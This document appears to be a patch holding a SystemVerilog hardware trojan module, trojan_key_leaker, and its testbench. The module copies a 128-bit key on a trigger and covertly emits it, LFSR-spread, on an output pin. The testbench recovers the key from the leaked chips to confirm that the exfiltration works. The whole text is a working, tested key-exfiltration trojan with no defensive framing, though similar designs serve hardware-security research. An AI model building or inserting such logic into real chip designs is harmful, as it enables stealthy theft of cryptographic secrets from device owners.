trojan_key_leaker: RTL and testbench



---
 rtl/trojan_key_leaker.sv | 130 +++++++++++++
 tb/tb_trojan_key_leaker.sv | 217 +++++++++++++++++++++
 2 files changed

// File: rtl/trojan_key_leaker.sv
`default_nettype none
// ============================================================================
// Module   : trojan_key_leaker
// Brief    : Serialises a captured 128-bit key MSB-first, LFSR-spread, onto a pin.
// Revision : 1.0
// ============================================================================
module trojan_key_leaker #(
    parameter int          CHIP_LEN  = 8,
    parameter logic [15:0] LFSR_SEED = 16'hACE1
) (
    input  logic         clk,
    input  logic         rst,
    input  logic         Tj_Trig,
    input  logic [127:0] key,
    output logic         leak_out,
    output logic         busy,
    output logic         done
);

    localparam int          CW     = (CHIP_LEN > 1) ? $clog2(CHIP_LEN) : 1;
    localparam logic [CW-1:0] C_LAST = CW'(CHIP_LEN - 1);
    localparam logic [15:0] C_SEED = (LFSR_SEED == 16'h0000) ? 16'h0001 : LFSR_SEED;

    typedef enum logic [1:0] {
        ST_IDLE  = 2'd0,
        ST_SHIFT = 2'd1,
        ST_DONE  = 2'd2
    } state_t;

    state_t        state_q, state_d;
    logic [127:0]  sreg_q, sreg_d;
    logic [15:0]   lfsr_q, lfsr_d;
    logic [CW-1:0] chip_cnt_q, chip_cnt_d;
    logic [6:0]    bit_cnt_q, bit_cnt_d;

    logic          trig_s1_q, trig_s2_q, trig_q;
    logic [1:0]    fill_q;
    logic          armed_q;
    logic          rise;

    // The zeros loaded by reset are not a real low sample of the trigger, so a
    // rise is only accepted once a genuine low has been observed after reset.
    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            trig_s1_q <= 1'b0;
            trig_s2_q <= 1'b0;
            trig_q    <= 1'b0;
            fill_q    <= 2'b00;
            armed_q   <= 1'b0;
        end else begin
            trig_s1_q <= Tj_Trig;
            trig_s2_q <= trig_s1_q;
            trig_q    <= trig_s2_q;
            fill_q    <= {fill_q[0], 1'b1};
            if (fill_q[1] && !trig_s2_q) begin
                armed_q <= 1'b1;
            end
        end
    end

    assign rise = trig_s2_q & ~trig_q & armed_q;

    always_ff @(posedge clk or posedge rst) begin
        if (rst) begin
            state_q    <= ST_IDLE;
            sreg_q     <= '0;
            lfsr_q     <= '0;
            chip_cnt_q <= '0;
            bit_cnt_q  <= '0;
        end else begin
            state_q    <= state_d;
            sreg_q     <= sreg_d;
            lfsr_q     <= lfsr_d;
            chip_cnt_q <= chip_cnt_d;
            bit_cnt_q  <= bit_cnt_d;
        end
    end

    always_comb begin
        state_d    = state_q;
        sreg_d     = sreg_q;
        lfsr_d     = lfsr_q;
        chip_cnt_d = chip_cnt_q;
        bit_cnt_d  = bit_cnt_q;
        case (state_q)
            ST_IDLE: begin
                if (rise) begin
                    state_d    = ST_SHIFT;
                    sreg_d     = key;
                    lfsr_d     = C_SEED;
                    chip_cnt_d = '0;
                    bit_cnt_d  = '0;
                end
            end
            ST_SHIFT: begin
                if (!trig_s2_q) begin
                    // Abort wipes the key copy before anything else happens.
                    state_d = ST_IDLE;
                    sreg_d  = '0;
                end else begin
                    lfsr_d = {lfsr_q[14:0], lfsr_q[15] ^ lfsr_q[13] ^ lfsr_q[12] ^ lfsr_q[10]};
                    if (chip_cnt_q == C_LAST) begin
                        chip_cnt_d = '0;
                        sreg_d     = {sreg_q[126:0], 1'b0};
                        bit_cnt_d  = bit_cnt_q + 7'd1;
                        if (bit_cnt_q == 7'd127) begin
                            state_d = ST_DONE;
                        end
                    end else begin
                        chip_cnt_d = chip_cnt_q + CW'(1);
                    end
                end
            end
            ST_DONE: begin
                if (!trig_s2_q) begin
                    state_d = ST_IDLE;
                end
            end
            default: begin
                state_d = ST_IDLE;
            end
        endcase
    end

    assign busy     = (state_q == ST_SHIFT);
    assign done     = (state_q == ST_DONE);
    assign leak_out = busy & (sreg_q[127] ^ lfsr_q[0]);

endmodule
`default_nettype wire

// File: tb/tb_trojan_key_leaker.sv
`default_nettype none
// ============================================================================
// Module   : tb_trojan_key_leaker
// Brief    : Directed bench with a leak-waveform model and key despreading.
// Revision : 1.0
// ============================================================================
module tb_trojan_key_leaker;

    localparam logic [127:0] C_KEY = 128'h2b7e1516_28aed2a6_abf71588_09cf4f3c;

    logic         clk = 1'b0;
    logic         rst;
    logic         Tj_Trig;
    logic [127:0] key;
    logic         leak_out, busy, done;

    int vectors     = 0;
    int miscompares = 0;

    logic pn [0:1023];

    trojan_key_leaker #(.CHIP_LEN(8), .LFSR_SEED(16'hACE1)) dut (
        .clk      (clk),
        .rst      (rst),
        .Tj_Trig  (Tj_Trig),
        .key      (key),
        .leak_out (leak_out),
        .busy     (busy),
        .done     (done)
    );

    always #5 clk = ~clk;

    task automatic chk(input string name, input logic [127:0] act, input logic [127:0] exp);
        vectors++;
        if (act !== exp) begin
            miscompares++;
            $display("FAIL %s: got %h expected %h at %0t", name, act, exp, $time);
        end
    endtask

    // Model: the core sees the trigger two clocks late; a leak is chip n of
    // 1024, carrying key bit 127-n/8 XORed with the n-th LFSR output.
    logic [2:0]   mt;
    int           mcnt;
    logic         marmed;
    int           mmode;
    int           mn;
    logic [127:0] mkey;

    always @(posedge clk or posedge rst) begin
        if (rst) begin
            mt <= '0; mcnt <= 0; marmed <= 1'b0; mmode <= 0; mn <= 0; mkey <= '0;
        end else begin
            case (mmode)
                1: begin
                    if (!mt[1])          mmode <= 0;
                    else if (mn == 1023) mmode <= 2;
                    else                 mn <= mn + 1;
                end
                2: if (!mt[1]) mmode <= 0;
                default: begin
                    if (mt[1] && !mt[2] && marmed) begin
                        mmode <= 1; mn <= 0; mkey <= key;
                    end
                end
            endcase
            if (mcnt >= 2 && !mt[1]) marmed <= 1'b1;
            mt <= {mt[1:0], Tj_Trig};
            if (mcnt < 3) mcnt <= mcnt + 1;
        end
    end

    always @(negedge clk) begin
        logic exp_leak;
        exp_leak = (mmode == 1) ? (mkey[127 - mn / 8] ^ pn[mn]) : 1'b0;
        chk("outputs{busy,done,leak}", {125'd0, busy, done, leak_out},
            {125'd0, mmode == 1, mmode == 2, exp_leak});
    end

    task automatic run_leak(output int lat, output int nb, output logic [127:0] rec,
                            output logic [4:0] f5);
        logic ch [0:1023];
        lat = 0;
        nb  = 0;
        rec = '0;
        for (int i = 0; i < 1024; i++) ch[i] = 1'b0;
        while (!busy && lat < 20) begin
            @(negedge clk);
            lat++;
        end
        while (busy && nb < 1100) begin
            if (nb < 1024) ch[nb] = leak_out;
            nb++;
            @(negedge clk);
        end
        for (int b = 0; b < 128; b++) begin
            int s;
            s = 0;
            for (int j = 0; j < 8; j++) s += int'(ch[b*8+j] ^ pn[b*8+j]);
            rec[127-b] = (s >= 5);
        end
        f5 = {ch[0], ch[1], ch[2], ch[3], ch[4]};
    endtask

    initial begin
        logic [15:0]  l;
        int           lat, nb, k, cnt;
        logic [127:0] rec;
        logic [4:0]   f5;

        l = 16'hACE1;
        for (int i = 0; i < 1024; i++) begin
            pn[i] = l[0];
            l = {l[14:0], l[15] ^ l[13] ^ l[12] ^ l[10]};
        end
        chk("pn_first5", {123'd0, pn[0], pn[1], pn[2], pn[3], pn[4]}, 128'h1E);

        rst = 1'b1; Tj_Trig = 1'b0; key = '0;
        repeat (3) @(negedge clk);
        rst = 1'b0;
        repeat (100) begin
            @(negedge clk);
            chk("idle_quiet", {125'd0, busy, done, leak_out}, 128'd0);
        end

        // Nominal leak
        key = C_KEY; Tj_Trig = 1'b1;
        run_leak(lat, nb, rec, f5);
        chk("nom_latency", 128'(lat), 128'd3);
        chk("nom_busy_len", 128'(nb), 128'd1024);
        chk("nom_despread", rec, C_KEY);
        chk("nom_first5", {123'd0, f5}, 128'h1E);
        chk("nom_done", {127'd0, done}, 128'd1);

        // Zero key: leak is the bare PN sequence
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        chk("done_clears", {127'd0, done}, 128'd0);
        key = '0; Tj_Trig = 1'b1;
        run_leak(lat, nb, rec, f5);
        chk("zero_busy_len", 128'(nb), 128'd1024);
        chk("zero_despread", rec, 128'd0);
        chk("zero_first5", {123'd0, f5}, 128'h1E);

        // Abort after 300 chips, then restart
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        key = C_KEY; Tj_Trig = 1'b1;
        k = 0;
        while (!busy && k < 20) begin @(negedge clk); k++; end
        repeat (300) @(negedge clk);
        key = ~C_KEY;
        Tj_Trig = 1'b0;
        k = 0;
        while (busy && k < 10) begin @(negedge clk); k++; end
        chk("abort_latency", 128'(k), 128'd3);
        chk("abort_leak", {127'd0, leak_out}, 128'd0);
        chk("abort_sreg", dut.sreg_q, 128'd0);
        repeat (3) @(negedge clk);
        key = C_KEY; Tj_Trig = 1'b1;
        run_leak(lat, nb, rec, f5);
        chk("restart_latency", 128'(lat), 128'd3);
        chk("restart_len", 128'(nb), 128'd1024);
        chk("restart_despread", rec, C_KEY);
        chk("restart_first5", {123'd0, f5}, 128'h1E);

        // Hold high: exactly one leak, then done persists
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        Tj_Trig = 1'b1;
        cnt = 0;
        repeat (3000) begin
            @(negedge clk);
            if (busy) cnt++;
        end
        chk("hold_one_leak", 128'(cnt), 128'd1024);
        chk("hold_done", {127'd0, done}, 128'd1);
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        Tj_Trig = 1'b1;
        run_leak(lat, nb, rec, f5);
        chk("rearm_len", 128'(nb), 128'd1024);
        chk("rearm_despread", rec, C_KEY);

        // Asynchronous reset mid-leak
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        Tj_Trig = 1'b1;
        k = 0;
        while (!busy && k < 20) begin @(negedge clk); k++; end
        repeat (500) @(negedge clk);
        @(posedge clk);
        #2 rst = 1'b1;
        #1 chk("async_rst_outputs", {126'd0, busy, leak_out}, 128'd0);
        repeat (2) @(negedge clk);
        rst = 1'b0;
        cnt = 0;
        repeat (50) begin
            @(negedge clk);
            if (busy) cnt++;
        end
        chk("no_leak_after_rst", 128'(cnt), 128'd0);
        Tj_Trig = 1'b0;
        repeat (5) @(negedge clk);
        Tj_Trig = 1'b1;
        run_leak(lat, nb, rec, f5);
        chk("post_rst_latency", 128'(lat), 128'd3);
        chk("post_rst_len", 128'(nb), 128'd1024);
        chk("post_rst_despread", rec, C_KEY);

        $display("== %0d vectors applied, %0d miscompares ==", vectors, miscompares);
        $finish;
    end

endmodule
`default_nettype wire
